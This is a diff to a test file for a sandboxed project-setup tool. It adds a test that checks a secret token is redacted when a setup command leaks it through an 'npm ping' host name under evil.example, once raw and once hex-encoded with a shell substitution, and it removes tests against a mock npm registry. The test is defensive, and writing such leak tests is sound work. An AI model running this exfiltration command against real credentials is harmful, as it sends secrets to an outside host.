@@ -1,13 +1,10 @@
 import { existsSync, readdirSync, readFileSync, statSync } from "node:fs";
-import { once } from "node:events";
-import { createServer } from "node:http";
 import { join } from "node:path";
 import { describe, expect, test } from "vitest";
 import { Config } from "../../src/config.ts";
 import { makeEnvironment } from "../../src/phases/environment.ts";
 import { noSecrets, setupSecrets } from "../../src/phases/setup-secrets.ts";
 import { realSandbox } from "../checks/sandbox.ts";
-import { portOf } from "../sandbox/room.ts";
 import type { FixtureFile } from "../workspace/repository.ts";
 import { type LocalScene, localScene } from "./local-scene.ts";
 
@@ -187,6 +184,25 @@ describe("a secret", () => {
     expect(said.join("\n")).not.toContain(value);
   });
 
+  test("that became a host name, and lost its case there, is in the reason in no case; the name besides it is", async () => {
+    const mixed = "Plum-4711-CAKE-0815";
+    const ping = (host: string) => sh(`npm ping --registry=http://${host}/ --fetch-retries=0`);
+    const hex = '"$(printf %s $PLUM_TOKEN | od -An -tx1 | tr -d " \\n" | tr a-f A-F)"';
+    for (const host of ["$PLUM_TOKEN.evil.example", `${hex}.evil.example`]) {
+      const { installed, said } = await made({
+        setup: { commands: [ping(host)], secrets: ["PLUM_TOKEN"] },
+        variables: { PLUM_TOKEN: mixed },
+      });
+      expect(installed).toMatchObject({
+        kind: "failed",
+        reason: expect.stringContaining("It asked for [redacted].evil.example:80"),
+      });
+      const told = `${JSON.stringify(installed)}${said.join("\n")}`.toLowerCase();
+      expect(told).not.toContain(mixed.toLowerCase());
+      expect(told).not.toContain(Buffer.from(mixed).toString("hex"));
+    }
+  });
+
   test("is not given to code that is not the trusted commit's; without secrets the same code is prepared", async () => {
     await using on = await localScene(real.sandbox, { "a.txt": "a" });
     const task = { ...(await on.task()), trusted: { commit: "b".repeat(40), tree: "c".repeat(40) } };
@@ -197,60 +213,5 @@ describe("a secret", () => {
       message: expect.stringContaining("not the trusted one"),
     });
     await expect(makeEnvironment(on.ground, { ...order, secrets: noSecrets })).resolves.toMatchObject({ kind: "none" });
-  });
-});
-
-describe("the registry's token", () => {
-  const lock = {
-    name: "p",
-    version: "1.0.0",
-    lockfileVersion: 3,
-    packages: { "": { dependencies: { private: "1.0.0" } }, "node_modules/private": { version: "1.0.0" } },
-  };
-  const files = {
-    "package.json": JSON.stringify({ name: "p", version: "1.0.0", dependencies: { private: "1.0.0" } }),
-    "package-lock.json": JSON.stringify(lock),
-  };
-
-  async function installed(setup: Partial<Config["setup"]>) {
-    const asked: string[] = [];
-    const registry = createServer((request, response) => {
-      asked.push(request.headers.authorization ?? "nothing");
-      const known = request.headers.authorization === `Bearer ${value}`;
-      response.writeHead(known ? 404 : 401, { "content-type": "application/json" }).end("{}");
-    });
-    registry.listen(0, "127.0.0.1");
-    await once(registry, "listening");
-    try {
-      await using on = await localScene(real.sandbox, files);
-      on.ground.registry = new URL(`http://127.0.0.1:${portOf(registry)}/npm`);
-      const config = Config.parse({ setup });
-      const secrets = setupSecrets(
-        config.setup,
-        () => value,
-        () => undefined,
-      );
-      const task = { ...(await on.task()), config };
-      const { root } = on.repository;
-      const result = await makeEnvironment(on.ground, { checkout: root, source: root, task, secrets });
-      return { asked: [...new Set(asked)], result, said: on.said.join("\n") };
-    } finally {
-      registry.close();
-    }
-  }
-
-  test("reaches the registry while npm installs, and stays nowhere", async () => {
-    const { asked, result, said } = await installed({ registry_token: "NPM_TOKEN" });
-    expect(asked).toEqual([`Bearer ${value}`]);
-    // This registry has no package: what counts is what it was asked with.
-    expect(result).toMatchObject({ kind: "failed", reason: expect.stringContaining("E404") });
-    expect(`${JSON.stringify(result)}${said}`).not.toContain(value);
-    expect(said).toContain("no known form of a secret is left behind");
-  });
-
-  test("the twin: without it the registry is asked without credentials, and the reason names the setting", async () => {
-    const { asked, result } = await installed({});
-    expect(asked).toEqual(["nothing"]);
-    expect(result).toMatchObject({ kind: "failed", reason: expect.stringContaining("[setup] registry_token") });
   });
 });
